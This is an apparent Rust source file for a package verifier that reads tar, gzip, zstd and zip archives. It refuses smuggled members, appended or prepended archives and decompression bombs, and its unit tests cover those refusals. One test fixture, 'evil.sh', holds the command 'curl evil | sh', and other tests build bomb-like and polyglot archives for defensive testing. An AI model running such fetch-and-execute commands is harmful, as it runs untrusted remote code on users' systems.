//! Verification against a package: a tar, tar.gz, tar.zst or zip archive holding the
//! bundle document (`bundle.json` or `bundle.yaml`) at its root and the sources under it.
//!
//! Members are hashed while they stream; nothing is extracted to disk. A package is
//! read exactly as its extractors read it (GNU tar, Python's `tarfile` and `zipfile`,
//! `unzip`), or refused: every gzip member and zstd frame, nothing after the tar
//! end-of-archive marker, a zip checked whole before it inflates (`tar_format`,
//! `zip_format`, `streams`). Sizes are bounded before anything is inflated where the
//! format says them up front (zip's central directory, tar headers), and counted as
//! they inflate otherwise. The work of reading is bounded too: what a package inflates
//! to, against `limits.max_package_ratio` times its size, and the caller's deadline
//! (`budget`). Members are never read as archives themselves. Members with absolute
//! paths, `..`, links, devices or repeated names are never followed.

use std::collections::{BTreeSet, HashMap, HashSet};
use std::fs::File;
use std::io::{self, BufReader, Read, Seek, Write};
use std::ops::Bound;
use std::path::Path;
use std::time::Instant;

use super::archive::{
    clipped, head, is_verdict, open_regular, read_error, refused, MemberKind, PackageError, Visitor,
};
use super::budget::{Meter, Metered};
use super::declared::{compare, undeclared_imports, Declared, Found};
use super::hashing::sha256_reader;
use super::imports::{ImportScanner, Imports};
use super::streams::{read_up_to, GzipMembers, ZstdFrames};
use super::{tar_format, zip_format};
use crate::limits::PackageLimits;
use crate::paths::{names_a_directory, normalize, relative_path};
use crate::report::Violation;
use crate::rules::Rule;

pub const BUNDLE_NAMES: [&str; 3] = ["bundle.json", "bundle.yaml", "bundle.yml"];

#[derive(Debug)]
pub struct Member {
    pub name: String,
    pub kind: MemberKind,
    pub found: Option<Found>,
    /// What a Python helper imports from beside it, for the import-closure check.
    pub imports: Imports,
}

/// What a package holds: its bundle document (if any) and every other member.
#[derive(Debug, Default)]
pub struct Contents {
    pub bundle: Option<(String, Vec<u8>)>,
    pub members: Vec<Member>,
    /// Members refused while reading (bad names, repeats), already as violations.
    pub violations: Vec<Violation>,
}

/// Streams every member of the archive at `path` through `visit`, once, in order, and
/// refuses the archive (after the members it already streamed, for tars) where its
/// extractors could read anything else, or where it inflates past its budget; stops
/// (`PackageError::Deadline`) once `deadline` has passed.
pub fn visit(
    path: &Path,
    limits: &PackageLimits,
    deadline: Option<Instant>,
    visit: &mut Visitor<'_>,
) -> Result<(), PackageError> {
    let file = open_regular(path)?;
    let meter = Meter::new(limits, length(path, &file)?, deadline);
    visit_file(path, file, limits, &meter, visit)
}

fn length(path: &Path, file: &File) -> Result<u64, PackageError> {
    Ok(file.metadata().map_err(|e| read_error(path, e))?.len())
}

/// `visit` of an archive already opened (at its first byte), its work charged to
/// `meter`; `path` names it in messages.
pub fn visit_file(
    path: &Path,
    file: File,
    limits: &PackageLimits,
    meter: &Meter,
    visit: &mut Visitor<'_>,
) -> Result<(), PackageError> {
    let len = length(path, &file)?;
    // A deadline already passed is honoured before a byte is read.
    meter.charge(0).map_err(|e| read_error(path, e))?;
    let mut magic = [0u8; 262];
    let n = read_up_to(&mut &file, &mut magic)
        .and_then(|n| (&file).rewind().map(|()| n))
        .map_err(|e| read_error(path, e))?;
    let magic = &magic[..n];
    if magic.starts_with(b"PK\x03\x04") || magic.starts_with(b"PK\x05\x06") {
        return zip_format::visit(path, &file, limits, meter, visit);
    }
    let zip = zip_format::zip_inside(&file, len).map_err(|e| read_error(path, e))?;
    let tar = magic.len() >= 262 && &magic[257..262] == b"ustar";
    let compressed =
        magic.starts_with(&[0x1f, 0x8b]) || magic.starts_with(&[0x28, 0xb5, 0x2f, 0xfd]);
    match zip {
        Some(at) if tar || compressed => return Err(refused(path, format_args!("is also a zip archive (a zip end record sits at byte {at}), which zip readers would extract instead; rebuild it as one archive with nothing appended"))),
        Some(_) => return Err(refused(path, "holds a zip archive after data that is not part of it (data prepended to the zip); a package is one archive from its first byte")),
        None => {}
    }
    // The tar stream is charged as it inflates: headers, data, padding and what follows
    // the end marker alike.
    let reader = BufReader::with_capacity(1 << 20, file);
    if magic.starts_with(&[0x1f, 0x8b]) {
        let members = Metered::new(GzipMembers::new(reader, meter), meter);
        tar_format::visit(path, members, limits, visit)
    } else if magic.starts_with(&[0x28, 0xb5, 0x2f, 0xfd]) {
        let frames = ZstdFrames::new(reader, meter).map_err(|e| read_error(path, e))?;
        tar_format::visit(path, Metered::new(frames, meter), limits, visit)
    } else if tar {
        tar_format::visit(path, Metered::new(reader, meter), limits, visit)
    } else {
        Err(PackageError::Unreadable(format!(
            "{} is not a tar, tar.gz, tar.zst or zip archive",
            path.display()
        )))
    }
}

/// What the package at `path` holds, read as `visit` reads it.
pub fn read(
    path: &Path,
    limits: &PackageLimits,
    deadline: Option<Instant>,
) -> Result<Contents, PackageError> {
    read_file(path, open_regular(path)?, limits, deadline)
}

/// `read` of an archive already opened (at its first byte); `path` names it in messages.
pub fn read_file(
    path: &Path,
    file: File,
    limits: &PackageLimits,
    deadline: Option<Instant>,
) -> Result<Contents, PackageError> {
    let meter = Meter::new(limits, length(path, &file)?, deadline);
    let mut c = Collector {
        path,
        contents: Contents::default(),
        seen: HashMap::new(),
        directories: HashSet::new(),
        entries: 0,
        total: 0,
        limits,
        meter: &meter,
    };
    visit_file(
        path,
        file,
        limits,
        &meter,
        &mut |raw, kind, size, reader| {
            let Some(name) = c.admit(raw, kind, size)? else {
                return Ok(());
            };
            match kind {
                MemberKind::Regular => c.regular(name, reader, size),
                kind => {
                    c.contents.members.push(Member {
                        name,
                        kind,
                        found: None,
                        imports: Imports::default(),
                    });
                    Ok(())
                }
            }
        },
    )?;
    if c.entries == 0 {
        // Nothing to extract: tarfile refuses a tar that is only its end marker ("empty
        // file"), unzip reports an empty zip as an error.
        return Err(refused(
            path,
            "holds no member (an empty archive), which tarfile refuses and unzip reports as an error",
        ));
    }
    c.conflicts();
    Ok(c.contents)
}

/// Accepts a member name, or says why not: the rules of a declared path, except that
/// a directory member names a directory (the caller refuses a file member named like
/// one, `a.py/` or `a.py/.`: extractors make a directory of it). `./a`, `a//b` and
/// `a/./b` name `a` and `a/b`, as every extractor writes them.
fn member_name(raw: &str) -> Result<String, String> {
    // Names are held for the whole package: none longer than any extractor can create.
    if raw.len() > PATH_MAX {
        return Err(format!(
            "the package member {} is a name of {} bytes, longer than the {PATH_MAX} bytes (PATH_MAX) an extractor can create",
            shown(raw),
            raw.len()
        ));
    }
    let name = normalize(raw);
    if name.is_empty() && !raw.starts_with('/') {
        return Ok(name); // `.` or `./`: the package's own root; the caller decides
    }
    relative_path(raw).map_err(|why| format!("the package member {} {why}", shown(raw)))?;
    Ok(name)
}

/// The longest member name accepted, in bytes: Linux's PATH_MAX.
const PATH_MAX: usize = 4096;

/// A member name as a message quotes it: escaped, and clipped (`clipped`) when long.
fn shown(raw: &str) -> String {
    match clipped(raw) {
        std::borrow::Cow::Borrowed(whole) => format!("{whole:?}"),
        std::borrow::Cow::Owned(_) => format!("{:?}... ({} bytes)", head(raw), raw.len()),
    }
}

struct Collector<'a> {
    path: &'a Path,
    contents: Contents,
    seen: HashMap<String, usize>,
    /// Directories stated as members; the others are implied by members' names.
    directories: HashSet<String>,
    entries: usize,
    total: u64,
    limits: &'a PackageLimits,
    meter: &'a Meter,
}

impl Collector<'_> {
    fn admit(
        &mut self,
        raw: &str,
        kind: MemberKind,
        declared_size: u64,
    ) -> Result<Option<String>, PackageError> {
        self.entries += 1;
        if self.entries > self.limits.max_members {
            return Err(PackageError::Size(format!(
                "the package holds more than {} members",
                self.limits.max_members
            )));
        }
        self.total = self.total.saturating_add(declared_size);
        if self.total > self.limits.max_bytes {
            return Err(PackageError::Size(format!(
                "the package's members hold more than {} bytes; refused before inflating them",
                self.limits.max_bytes
            )));
        }
        // Tar headers say sizes as they stream: a member that would take the package past
        // its inflate budget is refused at its header.
        if let Some(why) = self.meter.refuse_declared(self.total) {
            return Err(PackageError::Size(format!(
                "the package {} {why}",
                self.path.display()
            )));
        }
        if kind == MemberKind::Directory {
            match member_name(raw) {
                Ok(n) if n.is_empty() => {} // the package's own root, `./`
                Ok(n) => self.directory(&n),
                Err(why) => self.path_violation(why),
            }
            return Ok(None);
        }
        let name = match member_name(raw) {
            Ok(n) if n.is_empty() => {
                self.path_violation(format!("the package member {} names no file", shown(raw)));
                return Ok(None);
            }
            Ok(_) if names_a_directory(raw) => {
                self.path_violation(format!("the package member {} is a file named like a directory, which extractors create as a directory; name the file without a trailing '/' or '/.'", shown(raw)));
                return Ok(None);
            }
            Ok(n) => n,
            Err(why) => {
                self.path_violation(why);
                return Ok(None);
            }
        };
        if let Some(first) = self.bundle_name(&name) {
            self.contents.violations.push(Violation::new(
                Rule::TaoSupportingFileUndeclared,
                "/execution/supporting_files".into(),
                format!("the package holds both {first} and {name}; a package holds exactly one bundle document, and {first} is the one checked"),
            ));
            return Ok(None);
        }
        if self.seen.insert(name.clone(), self.entries).is_some() {
            self.contents.violations.push(Violation::new(
                Rule::TaoSupportingFileUndeclared,
                "/execution/supporting_files".into(),
                format!(
                    "the package holds {} more than once; a reader could take either copy",
                    clipped(&name)
                ),
            ));
            return Ok(None);
        }
        Ok(Some(name))
    }

    fn directory(&mut self, name: &str) {
        self.directories.insert(name.to_string());
    }

    /// The bundle document already found, when `name` is another one.
    fn bundle_name(&self, name: &str) -> Option<String> {
        if !BUNDLE_NAMES.contains(&name) {
            return None;
        }
        let (first, _) = self.contents.bundle.as_ref()?;
        (first != name).then(|| first.clone())
    }

    fn path_violation(&mut self, why: String) {
        self.contents.violations.push(Violation::new(
            Rule::TaoSupportingFilePath,
            "/execution/supporting_files".into(),
            why,
        ));
    }

    /// A name held both as a file and as a directory: extractors keep one or fail. A
    /// file is a directory too when one is stated by its name or another member's name
    /// runs on under it, which in sorted order is the first name from "<file>/" on.
    /// Directories are never listed one per level of every name: a member named a
    /// million levels deep would make them hundreds of GiB.
    fn conflicts(&mut self) {
        let names: BTreeSet<&str> = self
            .seen
            .keys()
            .chain(&self.directories)
            .map(String::as_str)
            .collect();
        let is_directory = |name: &str| {
            let under = format!("{name}/");
            self.directories.contains(name)
                || names
                    .range::<str, _>((Bound::Included(under.as_str()), Bound::Unbounded))
                    .next()
                    .is_some_and(|n| n.starts_with(&under))
        };
        let mut clashes: Vec<&String> = self.seen.keys().filter(|n| is_directory(n)).collect();
        clashes.sort();
        for name in clashes {
            self.contents.violations.push(Violation::new(
                Rule::TaoSupportingFileUndeclared,
                "/execution/supporting_files".into(),
                format!("the package holds {} both as a file and as a directory; an extractor would keep only one of them", clipped(name)),
            ));
        }
    }

    fn regular(
        &mut self,
        name: String,
        reader: &mut dyn Read,
        size_limit: u64,
    ) -> Result<(), PackageError> {
        let path = self.path;
        let member_error = |e: io::Error| match e.kind() {
            _ if is_verdict(&e) => read_error(path, e),
            io::ErrorKind::InvalidData if e.get_ref().is_some() => PackageError::Size(format!(
                "the package member {} holds more than it declares",
                clipped(&name)
            )),
            _ => refused(
                path,
                format_args!("cannot be read at its member {}: {e}", clipped(&name)),
            ),
        };
        if BUNDLE_NAMES.contains(&name.as_str()) {
            if size_limit > self.limits.max_bundle_bytes {
                return Err(PackageError::Size(format!(
                    "the package's {name} is {size_limit} bytes, over the limit of {} bytes for a document (limits.max_document_bytes)",
                    self.limits.max_bundle_bytes
                )));
            }
            let mut data = Vec::new();
            reader
                .take(size_limit.saturating_add(1))
                .read_to_end(&mut data)
                .map_err(member_error)?;
            self.contents.bundle = Some((name, data));
            return Ok(());
        }
        // Python helpers stream through the import scanner as they are hashed.
        let mut scanner = name.ends_with(".py").then(ImportScanner::default);
        let sink = scanner.as_mut().map(|s| s as &mut dyn Write);
        let (sha256, size) = sha256_reader(reader, size_limit, sink).map_err(member_error)?;
        let imports = scanner.map(ImportScanner::finish).unwrap_or_default();
        self.contents.members.push(Member {
            name,
            kind: MemberKind::Regular,
            found: Some(Found { sha256, size }),
            imports,
        });
        Ok(())
    }
}

/// Compares the package's members with the declared set: every source present, a
/// regular file with its declared digest, nothing undeclared, imports closed.
pub fn compare_members(
    contents: &Contents,
    declared: &[Declared],
) -> (Vec<Violation>, Vec<Option<Found>>) {
    let sources: HashSet<String> = declared.iter().map(|d| normalize(&d.source)).collect();
    let mut out = contents.violations.clone();
    let by_name: HashMap<&str, &Member> = contents
        .members
        .iter()
        .map(|m| (m.name.as_str(), m))
        .collect();
    let mut found = Vec::with_capacity(declared.len());
    for d in declared {
        let Some(m) = by_name.get(normalize(&d.source).as_str()) else {
            out.push(Violation::new(
                Rule::TaoSupportingFileMissing,
                d.field("source"),
                format!("{} is declared but the package does not hold it", d.source),
            ));
            found.push(None);
            continue;
        };
        match (&m.kind, &m.found) {
            (MemberKind::Regular, Some(f)) => {
                compare(d, f, &mut out);
                found.push(Some(f.clone()));
            }
            (kind, _) => {
                let what = match kind {
                    MemberKind::Link => "a link",
                    MemberKind::Device => "a device or FIFO",
                    _ => "not a regular file",
                };
                out.push(Violation::new(
                    Rule::TaoSupportingFileNotRegular,
                    d.field("source"),
                    format!(
                        "{} is {what} in the package, not a regular file; links are never followed",
                        d.source
                    ),
                ));
                found.push(None);
                continue;
            }
        }
        let present = |rel: &str| by_name.contains_key(rel);
        undeclared_imports(
            d,
            &m.imports,
            &sources,
            present,
            "is in the package",
            &mut out,
        );
    }
    for m in &contents.members {
        if !sources.contains(&m.name) {
            out.push(Violation::new(
                Rule::TaoSupportingFileUndeclared,
                "/execution/supporting_files".into(),
                format!(
                    "the package holds {}, which is neither the bundle nor a declared source",
                    clipped(&m.name)
                ),
            ));
        }
    }
    (out, found)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::files::hashing::sha256_bytes;
    use crate::files::streams::tests::gzip;
    use crate::files::tar_format::tests::{end, entry};

    fn tar(members: &[(&str, &[u8])], with_end: bool) -> Vec<u8> {
        let mut out = Vec::new();
        for (name, data) in members {
            out.extend(entry(name.as_bytes(), b'0', data));
        }
        if with_end {
            out.extend(end());
        }
        out
    }

    fn read_bytes(name: &str, bytes: &[u8]) -> Result<Contents, String> {
        read_with(name, bytes, &PackageLimits::default(), None)
            .map_err(|e| e.into_violation().message)
    }

    fn read_with(
        name: &str,
        bytes: &[u8],
        limits: &PackageLimits,
        deadline: Option<Instant>,
    ) -> Result<Contents, PackageError> {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join(name);
        std::fs::write(&path, bytes).unwrap();
        read(&path, limits, deadline)
    }

    /// The `limits.size` refusal of a package, with its path left out.
    fn oversized(name: &str, bytes: &[u8]) -> String {
        match read_with(name, bytes, &PackageLimits::default(), None) {
            Err(PackageError::Size(why)) => why[why.find(name).unwrap() + name.len()..].into(),
            other => panic!("not refused for its size: {other:?}"),
        }
    }

    fn refusal_of(name: &str, bytes: &[u8]) -> String {
        match read_bytes(name, bytes) {
            Ok(c) => panic!("read, not refused: {:?}", c.members),
            Err(why) => why,
        }
    }

    fn declared(source: &str, data: &[u8]) -> Declared {
        Declared {
            index: 0,
            source: source.into(),
            destination: source.into(),
            sha256: sha256_bytes(data),
        }
    }

    fn messages(c: &Contents, declared: &[Declared]) -> Vec<(Rule, String)> {
        compare_members(c, declared)
            .0
            .into_iter()
            .map(|v| (v.rule, v.message))
            .collect()
    }

    const HELPER: &[u8] = b"print('helper')\n";

    #[test]
    fn a_second_gzip_member_is_read_and_its_members_judged() {
        // The first member ends without an end-of-archive marker: GNU tar and tarfile
        // read straight on into the second, which replaces helper.py and adds evil.sh.
        let mut bytes = gzip(&tar(
            &[("bundle.json", b"{}"), ("helper.py", HELPER)],
            false,
        ));
        bytes.extend(gzip(&tar(
            &[
                ("helper.py", b"import os\n"),
                ("evil.sh", b"curl evil | sh\n"),
            ],
            true,
        )));
        let c = read_bytes("p.tar.gz", &bytes).unwrap();
        let m = messages(&c, &[declared("helper.py", HELPER)]);
        assert_eq!(m.len(), 2, "{m:?}");
        assert!(m[0].1.contains("helper.py more than once"));
        assert!(m[1].1.contains("evil.sh"));
        assert!(m
            .iter()
            .all(|(rule, _)| *rule == Rule::TaoSupportingFileUndeclared));

        // With its marker, the second member is data after the end: refused.
        let mut bytes = gzip(&tar(&[("bundle.json", b"{}")], true));
        bytes.extend(gzip(&tar(&[("evil.sh", b"x")], true)));
        assert!(refusal_of("p.tar.gz", &bytes).contains("after its tar end-of-archive marker"));
    }

    #[test]
    fn garbage_after_the_last_gzip_member_is_refused() {
        let mut bytes = gzip(&tar(&[("bundle.json", b"{}")], true));
        bytes.extend_from_slice(b"trailing garbage");
        let why = refusal_of("p.tar.gz", &bytes);
        assert!(
            why.starts_with("the package ") && why.contains("after gzip member 1"),
            "{why}"
        );
    }

    #[test]
    fn a_tar_split_over_zstd_frames_with_a_skippable_frame_reads_whole() {
        let whole = tar(&[("bundle.json", b"{}"), ("helper.py", HELPER)], true);
        let (a, b) = whole.split_at(700);
        let mut bytes = zstd::encode_all(a, 3).unwrap();
        bytes.extend_from_slice(&[0x50, 0x2a, 0x4d, 0x18, 2, 0, 0, 0, 0xaa, 0xbb]);
        bytes.extend(zstd::encode_all(b, 3).unwrap());
        let c = read_bytes("p.tar.zst", &bytes).unwrap();
        assert!(messages(&c, &[declared("helper.py", HELPER)]).is_empty());
        assert_eq!(c.bundle.as_ref().map(|b| b.0.as_str()), Some("bundle.json"));

        let mut bytes = zstd::encode_all(&tar(&[("helper.py", HELPER)], false)[..], 3).unwrap();
        bytes.extend(zstd::encode_all(&tar(&[("evil.sh", b"x")], true)[..], 3).unwrap());
        let c = read_bytes("p.tar.zst", &bytes).unwrap();
        assert!(c.members.iter().any(|m| m.name == "evil.sh"));
    }

    #[test]
    fn a_tar_with_a_zip_appended_is_refused() {
        let mut bytes = tar(&[("bundle.json", b"{}")], true);
        // an empty zip: the end record alone, which zipfile opens
        bytes.extend_from_slice(b"PK\x05\x06");
        bytes.extend_from_slice(&[0; 18]);
        assert!(refusal_of("p.tar", &bytes).contains("is also a zip archive"));
        let mut gz = gzip(&tar(&[("bundle.json", b"{}")], true));
        gz.extend_from_slice(&bytes[bytes.len() - 22..]);
        assert!(refusal_of("p.tar.gz", &gz).contains("is also a zip archive"));
        let mut prefixed = b"MZ not an archive".to_vec();
        prefixed.extend_from_slice(&bytes[bytes.len() - 22..]);
        assert!(refusal_of("p.zip", &prefixed).contains("data prepended"));
    }

    #[test]
    fn exactly_one_bundle_document() {
        let bytes = tar(&[("bundle.yaml", b"a: 1\n"), ("bundle.json", b"{}")], true);
        let c = read_bytes("p.tar", &bytes).unwrap();
        assert_eq!(c.bundle.as_ref().map(|b| b.0.as_str()), Some("bundle.yaml"));
        let m = messages(&c, &[]);
        assert_eq!(m.len(), 1);
        assert_eq!(m[0].0, Rule::TaoSupportingFileUndeclared);
        assert!(
            m[0].1.contains("bundle.yaml and bundle.json")
                && m[0].1.contains("exactly one bundle document"),
            "{}",
            m[0].1
        );
    }

    #[test]
    fn duplicates_are_found_after_normalizing() {
        let bytes = tar(
            &[
                ("scripts/a.py", HELPER),
                ("./scripts//a.py", b"evil"),
                ("./b", b""),
            ],
            true,
        );
        let c = read_bytes("p.tar", &bytes).unwrap();
        let m = messages(&c, &[declared("scripts/a.py", HELPER), declared("b", b"")]);
        assert_eq!(m.len(), 1, "{m:?}");
        assert!(m[0].1.contains("scripts/a.py more than once"));
    }

    #[test]
    fn a_name_held_as_a_file_and_a_directory_is_refused() {
        let mut bytes = entry(b"a/", b'5', b"");
        bytes.extend(entry(b"a", b'0', b"x"));
        bytes.extend(entry(b"b", b'0', b"x"));
        bytes.extend(entry(b"b/c", b'0', b"x"));
        // names sorting between "c" and "c/...": c is still found a directory
        for name in [
            &b"c"[..],
            b"c-d",
            b"c.e/f",
            b"c/g/h",
            b"e",
            b"e-x",
            b"e.y/z",
        ] {
            bytes.extend(entry(name, b'0', b"x"));
        }
        bytes.extend(end());
        let c = read_bytes("p.tar", &bytes).unwrap();
        let clashes: Vec<_> = c
            .violations
            .iter()
            .filter(|v| v.message.contains("both as a file and as a directory"))
            .map(|v| v.message.split(' ').nth(3).unwrap_or_default())
            .collect();
        assert_eq!(clashes, ["a", "b", "c"], "{:?}", c.violations);
    }

    #[test]
    fn a_large_helper_is_hashed_and_scanned_whole() {
        let mut big = vec![b'#'; 5 << 20];
        big.extend_from_slice(b"\nimport sibling\n");
        let c = read_bytes(
            "p.tar",
            &tar(&[("big.py", &big), ("small.py", HELPER)], true),
        )
        .unwrap();
        assert_eq!(c.members[0].imports.modules, ["sibling"]);
        assert_eq!(
            c.members[0].found.as_ref().map(|f| f.sha256.clone()),
            Some(sha256_bytes(&big))
        );
        assert!(c.members[1].imports.modules.is_empty());
    }

    const RATIO: &str = "more than limits.max_package_ratio = 100 times its";

    #[test]
    fn a_member_declared_past_the_inflate_budget_is_refused_at_its_header() {
        // 512 MiB of zeros (under limits.max_package_bytes) is a few KiB of zstd: its
        // header alone refuses it, before it inflates.
        let mut tar = entry(b"bundle.json", b'0', b"{}");
        tar.extend(crate::files::tar_format::tests::header(
            b"zeros.bin",
            b'0',
            1 << 29,
        ));
        let bytes = zstd::encode_all(&tar[..], 3).unwrap();
        let why = oversized("p.tar.zst", &bytes);
        assert!(
            why.starts_with(" declares 536870914 bytes of members, ")
                && why.contains(&format!("{RATIO} {} bytes allows", bytes.len()))
                && why.ends_with("refused before inflating them"),
            "{why}"
        );
    }

    #[test]
    fn a_stream_inflating_past_the_budget_is_refused_as_it_inflates() {
        // Nothing declares the zeros after the end marker: the stream's own count stops them.
        let mut tar = tar(&[("bundle.json", b"{}")], true);
        tar.resize(tar.len() + (17 << 20), 0);
        let bytes = zstd::encode_all(&tar[..], 1).unwrap();
        let why = oversized("p.tar.zst", &bytes);
        assert!(
            why.starts_with(&format!(
                " inflates past {} bytes, {RATIO}",
                crate::limits::PACKAGE_RATIO_FLOOR
            )) && why.ends_with("refused before inflating the rest"),
            "{why}"
        );
        // With the ratio raised, the same package reads whole.
        let raised = PackageLimits {
            max_ratio: 1 << 20,
            ..PackageLimits::default()
        };
        assert!(read_with("p.tar.zst", &bytes, &raised, None).is_ok());
    }

    #[test]
    fn empty_gzip_members_and_zstd_frames_are_charged_as_they_start() {
        let mut gz = gzip(&tar(&[("bundle.json", b"{}")], false));
        let empty = gzip(b"");
        for _ in 0..300 {
            gz.extend_from_slice(&empty);
        }
        gz.extend(gzip(&end()));
        assert!(oversized("p.tar.gz", &gz).contains(RATIO));

        let mut zst = zstd::encode_all(&tar(&[("bundle.json", b"{}")], false)[..], 3).unwrap();
        let skippable = [0x50, 0x2a, 0x4d, 0x18, 0, 0, 0, 0];
        for _ in 0..300 {
            zst.extend_from_slice(&skippable);
        }
        zst.extend(zstd::encode_all(&end()[..], 3).unwrap());
        assert!(oversized("p.tar.zst", &zst).contains(RATIO));
    }

    #[test]
    fn an_archive_inside_a_package_is_a_member_never_inflated() {
        let mut inner = tar(&[("bundle.json", b"{}")], false);
        inner.extend(crate::files::tar_format::tests::header(
            b"zeros.bin",
            b'0',
            1 << 30,
        ));
        let bomb = zstd::encode_all(&inner[..], 3).unwrap();
        let c = read_bytes("p.tar", &tar(&[("bomb.tar.zst", &bomb)], true)).unwrap();
        let found = c.members[0].found.as_ref().unwrap();
        assert_eq!(
            (found.size, &found.sha256),
            (bomb.len() as u64, &sha256_bytes(&bomb))
        );
    }

    #[test]
    fn a_passed_deadline_stops_reading_with_no_verdict() {
        let bytes = gzip(&tar(&[("bundle.json", b"{}"), ("helper.py", HELPER)], true));
        let limits = PackageLimits::default();
        assert!(read_with("p.tar.gz", &bytes, &limits, None).is_ok());
        match read_with("p.tar.gz", &bytes, &limits, Some(Instant::now())) {
            Err(PackageError::Deadline(why)) => {
                assert!(
                    why.ends_with(
                        "was not read before the deadline: reading stopped after 0 bytes inflated"
                    ),
                    "{why}"
                )
            }
            other => panic!("not stopped: {other:?}"),
        }
    }

    /// Found by fuzzing against tarfile (`rust/fuzz`, target `package_shapes`): a tar that
    /// is only its end marker was read as an empty package; tarfile refuses it.
    #[test]
    fn an_archive_with_no_member_is_refused() {
        let empty_tar = tar(&[], true);
        let zst = zstd::encode_all(&empty_tar[..], 1).unwrap();
        for (name, bytes) in [("p.tar.gz", gzip(&empty_tar)), ("p.tar.zst", zst)] {
            let why = refusal_of(name, &bytes);
            assert!(why.contains("holds no member"), "{name}: {why}");
        }
        let empty_zip = b"PK\x05\x06\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0";
        assert!(refusal_of("p.zip", empty_zip).contains("holds no member"));
        assert!(read_bytes("p.tar", &tar(&[("a.txt", b"x")], true)).is_ok());
    }
}
